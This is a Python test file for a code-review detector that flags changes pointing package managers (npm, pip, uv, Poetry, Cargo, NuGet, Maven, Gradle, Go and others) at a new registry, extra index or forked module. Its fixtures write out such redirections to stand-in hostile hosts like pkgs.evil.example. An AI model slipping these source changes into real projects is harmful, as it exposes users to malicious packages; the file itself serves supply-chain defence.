"""A package source added in configuration: a registry, an extra index, a module
replaced by a fork. No version moves, so only this says where packages now come from."""

from __future__ import annotations

import pytest

from app.detect.base import ChangedFile, FileStatus, Finding, Severity
from tests.detect.dependencies.helpers import DETECTOR, modified

EVIL = "https://pkgs.evil.example/simple"


def _found(path: str, base: str, head: str) -> list[Finding]:
    findings = DETECTOR.detect([modified(path, base, head)], DETECTOR.settings_model())
    return [f for f in findings if f.rule == "dependency.source-changed"]


@pytest.mark.parametrize(
    ("path", "base", "head", "source"),
    [
        (".npmrc", "save-exact=true\n", f"registry={EVIL}\n", EVIL),
        (".npmrc", "", "@corp:registry=https://npm.corp.example/\n", "https://npm.corp.example/"),
        (".yarnrc", "", 'registry "https://npm.evil.example"\n', "https://npm.evil.example"),
        (
            ".yarnrc.yml",
            "nodeLinker: node-modules\n",
            'npmScopes:\n  corp:\n    npmRegistryServer: "https://npm.evil.example"\n',
            "https://npm.evil.example",
        ),
        ("bunfig.toml", "[install]\n", f'[install]\nregistry = "{EVIL}"\n', EVIL),
        (
            "bunfig.toml",
            "[install]\n",
            f'[install.scopes]\n"@corp" = {{ url = "{EVIL}" }}\n',
            EVIL,
        ),
        (
            "pip.conf",
            "[global]\ntimeout = 60\n",
            f"[global]\nextra-index-url =\n    {EVIL}\n",
            EVIL,
        ),
        ("requirements.txt", "django==5.1\n", f"--extra-index-url {EVIL}\ndjango==5.1\n", EVIL),
        ("requirements/base.in", "django\n", f"-i {EVIL}\ndjango\n", EVIL),
        (
            "pyproject.toml",
            '[project]\nname = "app"\n',
            f'[project]\nname = "app"\n\n[[tool.uv.index]]\nname = "corp"\nurl = "{EVIL}"\n',
            EVIL,
        ),
        (
            "pyproject.toml",
            '[project]\nname = "app"\n',
            '[project]\nname = "app"\n\n[tool.uv.sources]\n'
            'httpx = { git = "https://github.com/evil/httpx" }\n',
            "https://github.com/evil/httpx",
        ),
        (
            "pyproject.toml",
            "[tool.poetry]\n",
            f'[tool.poetry]\n\n[[tool.poetry.source]]\nname = "corp"\nurl = "{EVIL}"\n',
            EVIL,
        ),
        ("uv.toml", "", f'extra-index-url = ["{EVIL}"]\n', EVIL),
        ("Pipfile", "", f'[[source]]\nurl = "{EVIL}"\nverify_ssl = true\nname = "x"\n', EVIL),
        (
            ".cargo/config.toml",
            "",
            '[source.crates-io]\nreplace-with = "m"\n\n[source.m]\nregistry = "sparse+https://m.evil.example/"\n',
            "sparse+https://m.evil.example/",
        ),
        (
            "NuGet.Config",
            "<configuration/>\n",
            '<configuration><packageSources><add key="x" value="https://nuget.evil.example/v3/index.json" />'
            "</packageSources></configuration>\n",
            "https://nuget.evil.example/v3/index.json",
        ),
        (
            "package.json",
            '{"name": "app", "resolutions": {"lodash": "4.17.21"}}',
            '{"name": "app", "resolutions": {"lodash": "4.17.21", "esm": "npm:esm-wallaby@^3"}}',
            "esm => npm:esm-wallaby",
        ),
        (
            "package.json",
            '{"name": "app"}',
            '{"name": "app", "overrides": {"foo": {"bar": "github:evil/bar#main"}}}',
            "bar => github.com/evil/bar",
        ),
        (
            "Gemfile",
            'source "https://rubygems.org"\ngem "rails"\n',
            'source "https://rubygems.org"\ngem "rails", git: "https://github.com/evil/rails"\n',
            "https://github.com/evil/rails",
        ),
        (
            "composer.json",
            '{"require": {}}',
            '{"repositories": [{"type": "vcs", "url": "https://github.com/evil/lib"}]}',
            "https://github.com/evil/lib",
        ),
        (
            "pom.xml",
            "<project><url>https://example.org</url></project>",
            "<project><url>https://example.org</url><repositories><repository><id>x</id>"
            "<url>https://maven.evil.example/repo</url></repository></repositories></project>",
            "https://maven.evil.example/repo",
        ),
        (
            "build.gradle.kts",
            "repositories {\n    mavenCentral()\n}\n",
            'repositories {\n    mavenCentral()\n    maven { url = uri("https://maven.evil.example") }\n}\n',
            "https://maven.evil.example",
        ),
        (
            "settings.gradle",
            "",
            "dependencyResolutionManagement { repositories { maven('https://m.evil.example/') } }\n",
            "https://m.evil.example/",
        ),
        (
            "go.mod",
            "module example.com/app\n\nrequire github.com/a/b v1.2.0\n",
            "module example.com/app\n\nrequire github.com/a/b v1.2.0\n\n"
            "replace github.com/a/b => github.com/evil/b v1.2.0\n",
            "github.com/a/b => github.com/evil/b",
        ),
    ],
)
def test_a_source_the_head_adds_calls_for_a_look(
    path: str, base: str, head: str, source: str
) -> None:
    [finding] = _found(path, base, head)
    assert finding.severity == Severity.MEDIUM
    assert finding.extra["sources"] == (source,)
    assert f"{path} now names a package source the base did not: {source}" in finding.message


@pytest.mark.parametrize(
    ("path", "base", "head"),
    [
        (".npmrc", f"registry={EVIL}\n", f"registry={EVIL}\nsave-exact=true\n"),  # kept
        (".npmrc", f"registry={EVIL}\n", ""),  # removed: back to the default
        (".npmrc", "", f"# registry={EVIL}\n"),  # a comment
        (".npmrc", "", "registry=https://registry.yarnpkg.com/\n"),  # the default, by its alias
        ("pip.conf", "", "[global]\nindex-url = https://pypi.org/simple\n"),
        # project.urls are links, not package sources
        ("pyproject.toml", "[project]\n", '[project.urls]\nHomepage = "https://x.example"\n'),
        # a project's own <url>, not a repository's
        ("pom.xml", "<project/>", "<project><url>https://example.org</url></project>"),
        (
            "pom.xml",
            "<project/>",
            "<project><distributionManagement><repository><url>https://nexus.corp.example/r"
            "</url></repository></distributionManagement></project>",
        ),
        ("Gemfile", "", 'source "https://rubygems.org"\n'),
        ("go.mod", "module m\n", "module m\n\nreplace github.com/a/b => ../b\n"),  # local
        ("requirements.txt", "django==5.1\n", "django==5.2\n"),
        ("package.json", '{"name": "a"}', '{"name": "a", "overrides": {"semver": "^7.5.2"}}'),
        # Budibase: the package itself at another tag, not another package
        ("package.json", "{}", '{"resolutions": {"@budibase/pro": "npm:@budibase/pro@latest"}}'),
        ("package.json", "{}", '{"resolutions": {"**/@s/n@^1": "npm:@s/n@2.0.0"}}'),
        ("requirements.txt", "django\n", "-f ./wheels\ndjango\n"),  # a directory
        (".npmrc", "", "registry=${NPM_REGISTRY}\n"),  # the environment says where
    ],
)
def test_what_adds_no_source(path: str, base: str, head: str) -> None:
    assert _found(path, base, head) == []


def test_a_token_in_the_address_is_not_reported() -> None:
    head = "extra-index-url = https://__token__:pypi-AgEIcHlwaS5vcmc@pkgs.evil.example/simple?k=v\n"
    [finding] = _found("pip.conf", "", "[global]\n" + head)
    assert "pypi-AgEI" not in finding.message
    assert "k=v" not in finding.message
    assert finding.extra["sources"] == ("https://pkgs.evil.example/simple",)


def test_the_base_is_asked_for_where_sources_are_configured() -> None:
    npmrc = ChangedFile(path=".npmrc", status=FileStatus.MODIFIED, added=[(1, "registry=x")])
    assert DETECTOR.wants_content(npmrc, DETECTOR.settings_model())
